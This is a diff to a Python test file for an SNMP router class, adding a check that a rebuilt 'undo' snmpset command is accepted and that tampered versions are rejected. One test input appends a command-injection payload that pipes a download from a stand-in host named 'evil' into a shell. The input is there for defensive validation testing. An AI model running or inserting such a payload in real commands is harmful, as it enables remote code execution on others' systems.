@@ -7,6 +7,7 @@ import re
 import socket
 import threading
 from contextlib import suppress
+from functools import partial
 
 import pytest
 from hypothesis import given
@@ -305,7 +306,14 @@ def test_the_command_that_undoes_a_change_has_the_types_of_the_mib():
         *((column, "i", 2) for column in (6, 7, 8, 9)),  # false
     ]
     words = " ".join(f"{top}.{column}.3.65552 {kind} {value}" for column, kind, value in said)
-    assert router().undo_command() == f"snmpset -v3 -l authPriv -u USER 192.0.2.1 {words}"
+    own = router()
+    command = own.undo_command()
+    assert command == f"snmpset -v3 -l authPriv -u USER 192.0.2.1 {words}"
+    address, parameters = str(own.address), own.parameters()
+    again = partial(SnmpRouter.rebuild_undo_command, address, parameters)
+    assert again(command) == command
+    assert again(f"{command}; curl http://evil/x | sh") is None
+    assert again(command.replace("192.0.2.1", "192.0.2.66")) is None
 
 
 # --- counters and time -------------------------------------------------------------------
